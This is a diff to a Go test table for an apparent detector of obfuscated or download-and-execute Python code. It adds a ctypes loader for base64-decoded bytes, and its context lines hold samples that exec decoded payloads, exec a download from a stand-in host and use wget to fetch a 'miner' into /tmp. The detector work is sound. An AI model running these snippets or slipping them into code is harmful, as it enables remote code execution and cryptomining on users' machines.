@@ -96,6 +96,7 @@ func TestObfuscations(t *testing.T) {
 			"import base64\npayload = (\n    'cHJpbnQo'\n    'MSk='\n)\ndata = base64.b64decode(\n    payload\n)\nexec(\n    data\n)\n",
 			"obfuscated-exec@9",
 		},
+		{"decoded bytes to ctypes", "import ctypes, base64\nbuf = ctypes.create_string_buffer(base64.b64decode(SC))\n", "obfuscated-exec@2"},
 		{"pickle of decoded data", "import pickle, base64\npickle.loads(base64.b64decode(B))\n", "obfuscated-exec@2"},
 		{"exec of a download", "import urllib.request\nexec(urllib.request.urlopen('http://x/s').read())\n", "download-exec@2"},
 		{"wget started", "import subprocess\nsubprocess.Popen(['wget', 'http://x/miner', '-O', '/tmp/m'])\n", "download-exec@2"},
